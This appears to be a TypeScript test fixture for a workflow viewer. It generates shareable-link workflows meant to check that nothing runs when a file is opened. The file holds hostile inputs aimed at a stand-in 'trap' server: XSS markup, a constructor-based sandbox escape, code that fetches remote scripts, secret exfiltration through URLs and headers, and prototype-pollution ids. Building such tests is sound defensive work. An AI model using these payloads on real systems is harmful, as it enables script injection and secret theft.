import { deflateRawSync } from "node:zlib";

/** The fragment of a link that holds this text. */
export function linkOf(text: string): string {
  return `#s=${deflateRawSync(Buffer.from(text)).toString("base64url")}`;
}

export function flowText(rest: object): string {
  return JSON.stringify({ format: "vwmp/1", name: "Shared", nodes: { a: { type: "no-op@1" } }, edges: [], ...rest });
}

/** Workflows that try to do something as soon as they are looked at; `trap` is the address of a server that must not be asked. */
export function hostileFiles(trap: string): readonly (readonly [name: string, text: string])[] {
  const node = (type: string, params: object, rest: object = {}): string => flowText({ nodes: { a: { type, params, ...rest } } });
  const markup = `<img src="${trap}/img" onerror="fetch('${trap}/xss')"><script src="${trap}/js"></script>`;
  const reach = `\${constructor.constructor("return fetch('${trap}/expr')")()}`;
  const asked = [
    "http-request",
    "graphql",
    "sse",
    "websocket",
    "websocket-send",
    "mqtt",
    "read-file",
    "openapi-request",
    "chat-model",
    "embed",
  ];
  return [
    ...asked.map((type) => [type, node(`${type}@1`, { url: trap, source: "url", address: trap, endpoint: trap })] as const),
    ["code", node("code@1", { code: `fetch("${trap}/code"); globalThis.ran = true; return items` })],
    ["a trigger by time", node("schedule@1", { cron: "* * * * *", every: "1s" })],
    ["a trigger by address", node("url-parameter@1", { name: "open" })],
    [
      "a secret",
      node("http-request@1", { url: `${trap}/\${secrets.MINE}`, headers: [{ name: "Authorization", value: "${secrets.MINE}" }] }),
    ],
    ["an expression that climbs out", node("template@1", { text: reach }, { name: reach, notes: reach })],
    ["an address made by an expression", node("http-request@1", { url: `\${"${trap}" + "/made"}` })],
    ["markup everywhere", node("template@1", { text: markup }, { name: markup, notes: markup })],
    [
      "markup in name and notes",
      flowText({ name: markup, description: markup, layout: { notes: [{ text: `![x](${trap}/note)${markup}` }] } }),
    ],
    ["markup as pins", flowText({ pins: { "a.out": [{ html: markup, url: `${trap}/pin` }] } })],
    ["permissions for all", flowText({ permissions: { net: ["*"], secrets: ["*"], code: true, read: ["/"], write: ["/"], run: ["sh"] } })],
    ["a workflow inside", flowText({ workflows: { inner: JSON.parse(node("http-request@1", { url: `${trap}/inner` })) } })],
    ["tests of its own", flowText({ tests: [{ name: "t", parameters: {}, expect: {} }] })],
    ["a type called constructor", node("constructor", { a: 1 })],
    [
      "ids of a prototype",
      '{"format":"vwmp/1","name":"P","nodes":{"__proto__":{"type":"no-op@1"},"constructor":{"type":"toString"}},"edges":[]}',
    ],
    ["a type from elsewhere", node(`${trap}/type@1`, {})],
    ["the grants of another workflow", flowText({ id: "sample-welcome-vwmp-json", w: "x", grants: { net: ["*"] } })],
    ["code with a file of the web", node("code@1", { code: `importScripts("${trap}/lib.js"); await import("${trap}/mod.js")` })],
    [
      "a style",
      node("template@1", { text: `<style>@import "${trap}/css"</style>` }, { name: `</style><link rel=stylesheet href=${trap}/css>` }),
    ],
  ];
}
